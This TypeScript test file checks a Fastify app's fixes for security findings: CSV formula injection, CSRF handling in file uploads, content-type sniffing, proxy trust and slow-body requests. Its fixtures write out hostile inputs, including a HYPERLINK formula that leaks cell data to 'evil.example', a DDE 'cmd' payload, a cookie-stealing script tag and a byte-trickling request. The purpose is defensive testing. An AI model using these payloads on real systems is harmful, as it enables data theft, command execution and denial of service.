/**
 * Security failures from an outside probe (issue 13), each answered here: CSV formula injection in the
 * audit export, malformed input that gave 500s, reads that were not audited, the CSRF token of forms
 * with files in the URL, downloads served as the type the uploader claimed, sessions for visitors,
 * which proxies to believe about the client's address, and request bodies that trickle in.
 */
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { beforeAll, describe, expect, it } from 'vitest';
import { backends } from '../../test/databases.ts';
import { Client, fixtureDatabase, openCase, signedIn } from '../../test/web.ts';
import { appendAudit } from '../audit/index.ts';
import { loadConfig } from '../config.ts';
import type { Database } from '../db/index.ts';
import { buildApp } from './app.ts';

const BOUNDARY = '----probityHardeningBoundary';

/** A multipart body of these parts, in this order: fields, and files as [name, filename, type, data]. */
function multipart(parts: ([string, string] | [string, string, string, Buffer])[]): Buffer {
  const out: Buffer[] = [];
  for (const [name, value, type, data] of parts) {
    out.push(
      Buffer.from(
        data === undefined
          ? `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`
          : `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${name}"; filename="${value}"\r\nContent-Type: ${type}\r\n\r\n`,
      ),
    );
    if (data !== undefined) out.push(data, Buffer.from('\r\n'));
  }
  out.push(Buffer.from(`--${BOUNDARY}--\r\n`));
  return Buffer.concat(out);
}

describe.each(backends)('hardening on $name', (backend) => {
  const fixture = fixtureDatabase(backend);
  let db: Database;
  let app: FastifyInstance;
  const evidenceDir = fs.mkdtempSync(path.join(os.tmpdir(), 'probity-hardening-'));
  beforeAll(async () => {
    db = fixture.db;
    app = await buildApp({ db, version: 'test', logger: false, evidenceDir });
  });

  const count = async (sql: string, params: unknown[] = []) =>
    (await db.query<{ n: number }>(`SELECT count(*)::int AS n FROM ${sql}`, params)).rows[0]!.n;

  it('exports no audit cell that a spreadsheet would run as a formula', async () => {
    const hostile = {
      actor: '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
      action: "+cmd|' /C calc'!A0",
      subjectType: '@SUM(1+1)',
      subjectId: '-2+3',
      purpose: '\t=1+1',
    };
    await appendAudit(db, hostile);
    const auditor = await signedIn(app, 'auditor');
    const res = await auditor.get(`/audit/export.csv?action=${encodeURIComponent(hostile.action)}`);
    expect(res.statusCode).toBe(200);
    const [header, ...rows] = parse(res.body, { relax_quotes: false }) as string[][];
    expect(header).toEqual([
      'id',
      'at',
      'actor',
      'action',
      'subject_type',
      'subject_id',
      'purpose',
      'details',
    ]);
    expect(rows).toHaveLength(1);
    const [, , actor, action, subjectType, subjectId, purpose] = rows[0]!;
    expect({ actor, action, subjectType, subjectId, purpose }).toEqual({
      actor: `'${hostile.actor}`,
      action: `'${hostile.action}`,
      subjectType: `'${hostile.subjectType}`,
      subjectId: `'${hostile.subjectId}`,
      purpose: `'${hostile.purpose}`,
    });
    // Each is quoted too (OWASP), so no spreadsheet splits or trims its way back to the formula.
    for (const value of Object.values(hostile))
      expect(res.body).toContain(`"'${value.replaceAll('"', '""')}"`);
  });

  it('answers a page number in exponent form, and a NUL character, with 400 rather than 500', async () => {
    const auditor = await signedIn(app, 'auditor');
    for (const page of ['1e21', '1e3', '0x10', '0', '-1', '1.5', '%201', '99999999999999999999'])
      expect((await auditor.get(`/audit?page=${page}`)).statusCode, page).toBe(400);
    expect((await auditor.get('/audit?page=2')).statusCode).toBe(200);
    const analyst = await signedIn(app, 'ccu_analyst');
    for (const url of ['/people/staff/%00', '/people/staff/S1001%00', '/people?q=a%00b', '/alerts?x=%00'])
      expect((await analyst.get(url)).statusCode, url).toBe(400);
    await analyst.get('/intelligence/new');
    expect(
      (await analyst.post('/intelligence/new', { establishment: 'XAA', text: 'nul \0 here' })).statusCode,
    ).toBe(400);
  });

  it('records who looked at the list of users', async () => {
    const admin = await signedIn(app, 'admin');
    const before = await count(`audit_log WHERE action = 'users.list' AND actor = 'user:admin'`);
    expect((await admin.get('/admin/users')).statusCode).toBe(200);
    expect(await count(`audit_log WHERE action = 'users.list' AND actor = 'user:admin'`)).toBe(before + 1);
  });

  describe('a form with files', () => {
    let investigator: Client;
    let ref = '';
    const exhibits = () => count('evidence');
    const upload = (url: string, body: Buffer, headers: Record<string, string> = {}) =>
      app.inject({
        method: 'POST',
        url,
        payload: body,
        headers: {
          cookie: [...investigator.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
          'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
          ...headers,
        },
      });

    beforeAll(async () => {
      investigator = await signedIn(app, 'ccu_investigator');
      ref = await openCase(investigator, {
        title: 'Uploads',
        subjects: 'S1001',
        allegation: 'inappropriate_relationship',
        priority: 'high',
      });
    });

    it('carries its CSRF token as its first field, never in the URL', async () => {
      const page = await investigator.get(`/cases/${ref}`);
      const form = /<form[^>]*enctype="multipart\/form-data"[^>]*>\s*<input type="hidden" name="_csrf"/.exec(
        page.body,
      );
      expect(form).not.toBeNull();
      expect(page.body).not.toContain('_csrf=');
      expect((await investigator.get('/intelligence/new')).body).not.toContain('_csrf=');
      const file: [string, string, string, Buffer] = ['file', 'a.txt', 'text/plain', Buffer.from('hello')];
      const token = investigator.csrf;
      const before = await exhibits();
      // In the URL: refused, and nothing stored.
      const inUrl = await upload(
        `/cases/${ref}/evidence?_csrf=${encodeURIComponent(token)}`,
        multipart([file]),
      );
      expect(inUrl.statusCode).toBe(403);
      // After the file: refused before the file is read.
      expect((await upload(`/cases/${ref}/evidence`, multipart([file, ['_csrf', token]]))).statusCode).toBe(
        403,
      );
      // Someone else's token, or none: refused.
      expect(
        (await upload(`/cases/${ref}/evidence`, multipart([['_csrf', 'forged'], file]))).statusCode,
      ).toBe(403);
      expect((await upload(`/cases/${ref}/evidence`, multipart([file]))).statusCode).toBe(403);
      expect(await exhibits()).toBe(before);
      // First: taken.
      const ok = await upload(
        `/cases/${ref}/evidence`,
        multipart([['_csrf', token], ['description', 'd'], file]),
      );
      expect(ok.statusCode).toBe(303);
      expect(await exhibits()).toBe(before + 1);
      // A script may send it in a header instead.
      const header = await upload(`/cases/${ref}/evidence`, multipart([file]), { 'x-csrf-token': token });
      expect(header.statusCode).toBe(303);
    });

    it('is never a way round the token on a route that takes no files', async () => {
      // A multipart body is not parsed into fields: without this, the route would run with no token read.
      const out = await upload('/sign-out', multipart([['_csrf', investigator.csrf]]));
      expect(out.statusCode).toBe(403);
      expect((await investigator.get('/alerts')).statusCode).toBe(200);
    });

    it('serves downloads as the type their content shows, never the type the uploader claimed', async () => {
      const files = [
        {
          name: 'page.html',
          claimed: 'text/html',
          data: Buffer.from('<script>alert(document.cookie)</script>'),
        },
        {
          name: 'x.svg',
          claimed: 'image/svg+xml',
          data: Buffer.from([0x3c, 0x73, 0x76, 0x67, 0, 0xff, 0x3e]),
        },
        {
          name: 'pic.png',
          claimed: 'text/html',
          data: Buffer.concat([
            Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
            Buffer.alloc(10),
          ]),
        },
        { name: 'doc.pdf', claimed: 'application/x-msdownload', data: Buffer.from('%PDF-1.7\n%…') },
      ];
      const served: Record<string, string | undefined> = {};
      for (const f of files) {
        await investigator.get(`/cases/${ref}`);
        const up = await upload(
          `/cases/${ref}/evidence`,
          multipart([
            ['_csrf', investigator.csrf],
            ['file', f.name, f.claimed, f.data],
          ]),
        );
        expect(up.statusCode).toBe(303);
        const { rows } = await db.query<{ id: string }>(
          'SELECT id::text FROM evidence WHERE filename = $1 ORDER BY id DESC LIMIT 1',
          [f.name],
        );
        const res = await investigator.get(`/cases/${ref}/evidence/${rows[0]!.id}`);
        expect(res.rawPayload.equals(f.data)).toBe(true);
        expect(res.headers['content-disposition']).toBe(`attachment; filename="${f.name}"`);
        expect(res.headers['x-content-type-options']).toBe('nosniff');
        served[f.name] = String(res.headers['content-type']);
      }
      expect(served).toEqual({
        'page.html': 'text/plain; charset=utf-8',
        'x.svg': 'application/octet-stream',
        'pic.png': 'image/png',
        'doc.pdf': 'application/pdf',
      });
    });
  });

  it('keeps no session for a visitor, whatever protected page or form they try', async () => {
    const visitor = new Client(app);
    const anonymousSessions = () => count('sessions WHERE username IS NULL');
    expect(await anonymousSessions()).toBe(0);
    const routes = app.routeTable.filter((r) => r.access !== 'public' && r.access !== undefined);
    expect(routes.length).toBeGreaterThan(20);
    for (const route of routes) {
      const url = route.url.replace(/:[a-z]+/gi, 'X1');
      const res = route.method === 'GET' ? await visitor.get(url) : await visitor.post(url, {});
      expect([303, 403, 404], `${route.method} ${url}`).toContain(res.statusCode);
    }
    expect(visitor.cookies.has('probity.sid')).toBe(false);
    expect(await anonymousSessions()).toBe(0);
  });

  describe('the client address behind a reverse proxy', () => {
    const whoIs = async (trust: string, remoteAddress: string, forwarded: Record<string, string>) => {
      const a = await buildApp({
        db,
        version: 'test',
        logger: false,
        trustProxy: loadConfig({ PROBITY_TRUST_PROXY: trust }).trustProxy,
      });
      a.get('/test/whoami', { config: { access: 'public' } }, async (req) => ({
        ip: req.ip,
        protocol: req.protocol,
      }));
      const res = await a.inject({ url: '/test/whoami', remoteAddress, headers: forwarded });
      await a.close();
      return res.json<{ ip: string; protocol: string }>();
    };
    const forwarded = { 'x-forwarded-for': '6.6.6.6, 203.0.113.9', 'x-forwarded-proto': 'https' };

    it('takes one hop to mean the proxy in front of probity, not whatever the client wrote', async () => {
      // The proxy appended the address it saw (203.0.113.9); the client wrote 6.6.6.6 itself.
      expect(await whoIs('1', '10.0.0.5', forwarded)).toEqual({ ip: '203.0.113.9', protocol: 'https' });
      expect(await whoIs('2', '10.0.0.5', forwarded)).toEqual({ ip: '6.6.6.6', protocol: 'https' });
      expect(await whoIs('0', '10.0.0.5', forwarded)).toEqual({ ip: '10.0.0.5', protocol: 'http' });
    });

    it('believes only the listed proxies', async () => {
      expect(await whoIs('10.0.0.0/24, 192.0.2.1', '10.0.0.5', forwarded)).toEqual({
        ip: '203.0.113.9',
        protocol: 'https',
      });
      // A client that reaches probity directly cannot set its address or HTTPS.
      expect(await whoIs('10.0.0.0/24', '198.51.100.7', forwarded)).toEqual({
        ip: '198.51.100.7',
        protocol: 'http',
      });
    });
  });

  it('cuts off a request whose body trickles in', async () => {
    const slow = await buildApp({ db, version: 'test', logger: false, requestTimeoutMs: 1000 });
    await slow.listen({ port: 0, host: '127.0.0.1' });
    try {
      const { port } = slow.server.address() as net.AddressInfo;
      const answer = await new Promise<string>((resolve, reject) => {
        const socket = net.connect(port, '127.0.0.1');
        let received = '';
        let trickle: NodeJS.Timeout | undefined;
        socket.on('connect', () => {
          socket.write(
            'POST /sign-in HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\nu',
          );
          // One byte at a time, never the whole body: the connection is never idle, the request never ends.
          trickle = setInterval(() => socket.write('u'), 100);
        });
        socket.on('data', (d) => (received += d.toString()));
        socket.on('error', (err) => (received ? undefined : reject(err)));
        socket.on('close', () => {
          clearInterval(trickle);
          resolve(received);
        });
      });
      expect(answer).toMatch(/^HTTP\/1\.1 408 /);
    } finally {
      await slow.close();
    }
  });
});
